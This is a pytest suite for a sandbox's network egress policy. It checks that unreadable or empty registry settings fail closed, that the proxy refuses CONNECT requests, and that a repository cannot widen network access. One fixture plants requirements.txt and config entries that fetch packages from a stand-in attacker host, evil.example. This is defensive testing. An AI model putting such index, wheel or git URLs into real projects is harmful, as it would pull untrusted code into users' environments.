"""C03: a policy that is empty, in doubt or cannot be read is closed, and the reason told."""

from collections.abc import Callable
from pathlib import Path

import pytest

from sandbox.egress import Egress
from sandbox.errors import RegistryRefused
from sandbox.registries import parse
from tests.adi_kit import adi
from tests.containment_kit import Contained
from tests.test_sandbox_egress import ask

pytestmark = [pytest.mark.containment]
container = pytest.mark.container
COMMANDS = (["run", "mend it"], ["prepare", "--yes"], ["review"], ["doctor"], ["undo"])


def break_config(home: Path, how: str) -> None:
    config = home / "config.toml"
    if how == "no TOML":
        config.write_text("[sandbox\nregistries = []\n")
    elif how == "no UTF-8":
        config.write_bytes(b"[sandbox]\nimage = '\xff'\n")
    elif how == "a directory":
        config.mkdir()
    elif how == "a link to nowhere":
        config.symlink_to(home / "gone.toml")
    elif how == "a loop of links":
        config.symlink_to(config)
    elif how == "a wrong type":
        config.write_text("[sandbox]\nregistries = 3\n")
    else:
        assert how == "no table"
        config.write_text("sandbox = 'closed'\n")


BROKEN = (
    "no TOML", "no UTF-8", "a directory", "a link to nowhere", "a loop of links", "a wrong type", "no table",
)  # fmt: skip


@pytest.mark.parametrize("how", BROKEN)
def test_sandbox_c03_unreadable_policy_starts_nothing(
    make_repo: Callable[..., Path], adi_home: Path, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    """No command falls back to defaults: each is refused with the reason, before anything is opened."""
    from agent.cli import invoke
    from agent.errors import UsageError

    monkeypatch.chdir(make_repo({"requirements.txt": "x\n", "test_a.py": "def test_a(): pass\n"}))
    break_config(adi_home, how)
    before = sorted(adi_home.iterdir())
    for command in COMMANDS:
        with pytest.raises(UsageError) as refused:
            invoke(list(command))
        assert refused.value.exit_code == 2
        assert "config.toml" in str(refused.value) or "sandbox" in str(refused.value), command
        assert refused.value.hint
    assert sorted(adi_home.iterdir()) == before


@pytest.mark.sample(2)
@pytest.mark.parametrize(
    ("environ", "says"),
    [
        ({"ADI_SANDBOX__REGISTRIES": "[]"}, "empty list: nothing may be reached"),
        ({"ADI_SANDBOX__REGISTRIES": ""}, "setting sandbox.registries"),
        ({"ADI_SANDBOX__REGISTRIES": "https://pypi.org"}, "holds no JSON list"),
        ({"ADI_SANDBOX__REGISTRIES": '["*"]'}, "is refused"),
        ({"ADI_SANDBOX__REGISTRIES": '["https://pypi.org"]'}, "names no index for pypi"),
        ({"ADI_SANDBOX__REGISTRY": "[]"}, "unknown setting sandbox.registry"),
    ],
)
@container
def test_sandbox_c03_empty_or_doubtful_list_is_closed(
    make_repo: Callable[..., Path], environ: dict[str, str], says: str
) -> None:
    """CVE-2025-66479: an empty list once meant that everything is open."""
    repo = make_repo({"requirements.txt": "x\n", "test_a.py": "def test_a(): pass\n"})
    done = adi(repo, "prepare", "--yes", **environ)
    assert done.returncode == 2, done.stderr
    assert says in done.stderr
    assert "hint: " in done.stderr
    assert "Prepared" not in done.stderr


def test_sandbox_c03_a_proxy_without_a_list_passes_nothing(contained: Contained) -> None:
    with pytest.raises(RegistryRefused):
        parse([])
    with Egress(contained.tmp, []) as egress:
        for host in ("pypi.org:443", "127.0.0.1:80", "localhost:22"):
            assert ask(contained.tmp, f"CONNECT {host} HTTP/1.1\r\n\r\n".encode()).startswith(b"HTTP/1.1 403")
    assert len(egress.asked) == 3
    assert not any(one.allowed for one in egress.asked)


@container
def test_sandbox_c03_a_repository_cannot_open_the_network(make_repo: Callable[..., Path]) -> None:
    """Its own configuration, requirements and .npmrc name other hosts: named, and not followed."""
    repo = make_repo(
        {
            ".adi/config.toml": "[sandbox]\nregistries = ['pypi+https://evil.example/simple']\n",
            "requirements.txt": "--index-url"
            " https://evil.example/\n--trusted-host"
            " evil.example\nadi-x\n"
            "adi-y @ https://evil.example/y.whl\ngit+ssh://evil.example/z\n",
            "test_a.py": "def test_a(): pass\n",
        }
    )
    done = adi(repo, "prepare")
    assert done.returncode == 4, done.stderr
    assert "sandbox.registries is refused: a repository may not set it" in done.stderr
    for option in ("--index-url", "--trusted-host"):
        assert f"{option} is ignored" in done.stderr
    assert "'adi-y @ https://evil.example/y.whl' is left out" in done.stderr
    assert "'git+ssh://evil.example/z' is left out" in done.stderr
    (hosts,) = [line for line in done.stderr.splitlines() if line.strip().startswith("hosts:")]
    assert "evil" not in hosts
